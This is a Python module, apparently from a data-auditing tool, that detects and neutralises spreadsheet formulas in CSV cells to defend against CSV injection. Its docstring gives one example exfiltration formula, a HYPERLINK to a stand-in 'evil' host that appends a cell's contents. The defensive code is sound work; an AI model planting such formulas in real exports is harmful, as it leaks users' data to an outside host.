"""Spreadsheet formulas in CSV cells ("CSV injection"): one predicate and one neutraliser for
every CSV auditor reads or writes (Qt-free; ingest uses the predicate to refuse such ids).

Excel and LibreOffice run a cell that starts with ``= + - @``, a tab or a carriage return as a
formula, e.g. ``=HYPERLINK("http://evil/?"&A1,"x")``. Numbers such as ``-87.6`` or ``+1e5``
are not formulas and stay as they are.

``neutralise`` prefixes such a cell with an apostrophe, which spreadsheets show as text. So
that the change can be undone exactly (``restore``, used when auditor reads its own flag CSV
back), a cell that already starts with an apostrophe gets one more: restore(neutralise(s)) == s
for every s. The rule is deterministic, so exports stay byte-for-byte reproducible."""
from __future__ import annotations

import re

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER_CORE = r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
_NUMBER = re.compile(_NUMBER_CORE + r"\Z")
# for vectorised use: the cells neutralise() changes are those matching NEEDS_PREFIX_RE and not
# NUMBER_RE (Python re for pandas; NUMBER_RE_RE2 for pyarrow, where \z ends the text)
NEEDS_PREFIX_RE = r"^(?:[=+\-@\t\r]|')"
NUMBER_RE = "^" + _NUMBER_CORE + r"\Z"
NUMBER_RE_RE2 = "^" + _NUMBER_CORE + r"\z"


def is_formula_like(value) -> bool:
    """True when a spreadsheet would read ``value`` (text) as a formula."""
    return (isinstance(value, str) and value[:1] in FORMULA_STARTS
            and _NUMBER.match(value) is None)


def _needs_prefix(value: str) -> bool:
    return is_formula_like(value) or value.startswith("'")


def neutralise(value):
    """``value`` safe as a spreadsheet cell: formula-like text (and text already starting with
    an apostrophe) gets a leading apostrophe. Non-text values are returned unchanged."""
    if isinstance(value, str) and _needs_prefix(value):
        return "'" + value
    return value


def restore(value):
    """Undo ``neutralise`` (for CSVs auditor wrote itself)."""
    if isinstance(value, str) and value.startswith("'") and _needs_prefix(value[1:]):
        return value[1:]
    return value


def neutralise_series(values: pd.Series) -> pd.Series:
    """``neutralise`` over a column, vectorised; numeric columns are returned unchanged."""
    if values.dtype.kind in "iufb" or values.empty:
        return values
    text = values.astype("string")
    hit = (text.str.contains(NEEDS_PREFIX_RE, regex=True, na=False)
           & ~text.str.match(NUMBER_RE, na=False))
    if not hit.any():
        return values
    out = values.astype(object).copy()
    out[hit.to_numpy()] = "'" + text[hit].astype(str)
    return out


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text column neutralised."""
    out = frame.copy()
    for col in out.columns:
        out[col] = neutralise_series(out[col])
    return out
